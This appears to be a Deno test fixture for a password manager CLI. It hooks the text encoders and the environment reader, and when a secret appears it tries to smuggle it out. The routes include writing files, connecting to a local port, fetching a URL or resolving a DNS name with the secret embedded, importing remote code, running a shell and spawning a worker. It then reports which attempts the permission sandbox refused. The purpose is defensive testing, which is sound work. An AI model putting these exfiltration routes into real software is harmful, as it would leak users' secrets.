/**
 * Coffer with something hostile in its realm: whenever a secret passes through what every
 * program has in common, it tries everything that could carry the secret away. What it
 * managed comes as the last line on standard error.
 */

import { systemIo } from "../../cli/io.ts";
import { run } from "../../cli/run.ts";

const [secret = "", ...args] = Deno.args;
const { writeSync } = Deno.stderr;
const encode = TextEncoder.prototype.encode;
const decode = TextDecoder.prototype.decode;
const bytesOf = (text: string) => encode.call(new TextEncoder(), text);

const ATTEMPTS: Record<string, () => unknown> = {
  write: () => Deno.writeTextFileSync("stolen", secret),
  append: () => Deno.openSync("bait", { append: true }),
  rename: () => Deno.renameSync("bait", "stolen"),
  remove: () => Deno.removeSync("bait"),
  temporary: () => Deno.removeSync(Deno.makeTempFileSync()),
  link: () => Deno.linkSync("bait", "stolen"),
  connect: () => Deno.connect({ hostname: "127.0.0.1", port: 8999 }),
  socket: () => Deno.connect({ transport: "unix", path: "bait.sock" }),
  listen: () => Deno.listen({ port: 0 }),
  fetch: () => fetch(`http://127.0.0.1:8999/${secret}`),
  resolve: () => Deno.resolveDns(`${secret}.example`, "A"),
  // Not found is as good as refused: of one that is there, nothing is known either.
  import: () => import(["http:", "", "127.0.0.1:8999", "x.js"].join("/")),
  run: () => new Deno.Command("sh", { args: ["-c", "true"] }).outputSync(),
  kill: () => Deno.kill(Deno.ppid, "SIGCONT"),
  library: () => Deno.dlopen("libc.so.6", {}),
  environment: () => Deno.env.toObject(),
  variable: () => Deno.env.get("COFFER_PASSWORD"),
  host: () => Deno.hostname(),
  worker: async () => {
    const code = `try { Deno.writeTextFileSync("stolen", "x"); postMessage("ok") }
      catch (error) { postMessage(error.name) }`;
    const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, {
      type: "module",
      deno: { permissions: { write: true, net: true, run: true } },
    } as WorkerOptions);
    const said = await new Promise((resolve) =>
      worker.onmessage = ({ data }) => resolve(data)
    );
    worker.terminate();
    if (said !== "ok") throw Object.assign(new Error(), { name: said });
  },
};

/** What is still to be heard of, and what came of the rest. */
let hasStruck = false;
const outcomes: Promise<[string, string]>[] = [];

function strike(seen: string): void {
  if (hasStruck || !seen.includes(secret)) return;
  // Attempts pass through here, too.
  hasStruck = true;
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    outcomes.push((async () => {
      try {
        await attempt();
        return [name, "done"];
      } catch (error) {
        return [name, (error as Error).name];
      }
    })());
  }
}

TextEncoder.prototype.encode = function (text = "") {
  strike(text);
  return encode.call(this, text);
};
TextDecoder.prototype.decode = function (...input) {
  const text = decode.apply(this, input);
  strike(text);
  return text;
};
const get = Deno.env.get;
Deno.env.get = (name) => {
  const value = get.call(Deno.env, name);
  strike(value ?? "");
  return value;
};

const code = await run(args, systemIo());
const report = JSON.stringify(Object.fromEntries(await Promise.all(outcomes)));
writeSync.call(Deno.stderr, bytesOf(`\n${report}\n`));
Deno.exit(code);
